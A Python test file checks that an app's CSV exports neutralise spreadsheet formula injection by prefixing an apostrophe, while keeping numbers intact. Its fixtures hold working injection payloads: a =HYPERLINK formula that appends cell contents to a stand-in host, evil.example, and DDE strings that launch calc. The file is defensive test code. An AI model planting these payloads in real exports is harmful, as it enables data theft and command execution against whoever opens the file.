"""Every CSV mapapp writes is safe to open in a spreadsheet: text that begins like a formula is neutralised
the way OWASP recommends (a leading apostrophe), numbers stay numbers (issue #14)."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest

from conftest import ROOT
from mapapp import appdata
from mapapp.appdata import download_files
from mapapp.export import export_maps
from mapapp.pipeline import run_text
from mapapp.records import records_csv, spreadsheet_safe

HOSTILE = """---
title: Formulas
---

## =HYPERLINK("http://evil.example/?"&A1,"Click") (2012)
=HYPERLINK("http://evil.example","On 3 May 2012, rebels captured Gao.")

+cmd|' /C calc'!A0 On 4 May 2012, rebels attacked Gao.

@SUM(1+1)*cmd|' /C calc'!A0 On 5 May 2012, the army recaptured Gao.

-2+3+cmd|' /C calc'!A0 On 6 May 2012, rebels attacked Kidal.
"""
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(rows: list[dict[str, str]]) -> None:
    assert rows
    for row in rows:
        for key, value in row.items():
            if value.startswith(TRIGGERS):
                float(value)  # a number such as a longitude west of Greenwich, nothing else


@pytest.mark.parametrize(
    "value, safe",
    [
        ("=1+2", "'=1+2"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Gao", "Gao"), ("", ""),
        ("a=1", "a=1"), ("-0.04472", "-0.04472"), ("+3", "+3"), ("-1e5", "-1e5"), (-0.04472, -0.04472),
        (12, 12), (None, None), ("- hyphen list", "'- hyphen list"),
    ],
    ids=["equals", "plus-dde", "minus-formula", "at", "tab", "carriage-return", "text", "empty", "inner-equals",
         "negative-number-text", "plus-number", "exponent", "float", "int", "none", "dash-text"],
)
def test_spreadsheet_safe(value, safe):
    assert spreadsheet_safe(value) == safe


def test_records_csv_neutralises_text_and_keeps_numbers():
    text = records_csv([{"place": "=cmd", "lat": -0.5, "lon": 2.0, "sentence": "@x"}], ["place", "lat", "lon",
                                                                                      "sentence"])
    assert text == "place,lat,lon,sentence\n'=cmd,-0.5,2.0,'@x\n"


@pytest.fixture(scope="module")
def hostile(gazetteer):
    result = run_text(HOSTILE, "formulas.md", gazetteer)
    starts = {e.sentence[:1] for e in result.events}
    assert {"=", "+", "@", "-"} <= starts, "the article gives events whose sentences begin like formulas"
    return result


def test_export_and_app_download_events_csv_are_safe(hostile, tmp_path):
    export_maps(hostile, tmp_path)
    written = (tmp_path / "events.csv").read_text(encoding="utf-8")
    rows = cells(written)  # was: =HYPERLINK(…) written as is, run by the spreadsheet
    assert_no_formula(rows)
    assert {r["notes"][:2] for r in rows} >= {"'=", "'+", "'@", "'-"}
    assert any(r["section"].startswith("'=HYPERLINK") for r in rows)
    assert any(r["longitude"].startswith("-") for r in rows), "Gao's longitude stays a negative number"
    assert download_files(hostile)["events.csv"] == written.encode("utf-8")


@pytest.mark.parametrize("command", ["extract", "control"])
def test_command_line_csv_is_safe(tmp_path, command):
    path = tmp_path / "formulas.md"
    path.write_text(HOSTILE, encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "mapapp", command, str(path), "--format", "csv"], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    rows = cells(proc.stdout)
    assert_no_formula(rows)
    assert any(r["sentence"].startswith("'=HYPERLINK") for r in rows)


def test_the_apps_table_which_streamlit_can_download_as_csv_is_safe(hostile):
    """Streamlit's table toolbar has its own "Download as CSV", which writes cells as they are."""
    rows = appdata.event_rows(hostile.events)
    assert {row["Text"][:2] for row in rows} >= {"'=", "'+", "'@", "'-"}
    assert all(not value.startswith(TRIGGERS) for row in rows for value in row.values())
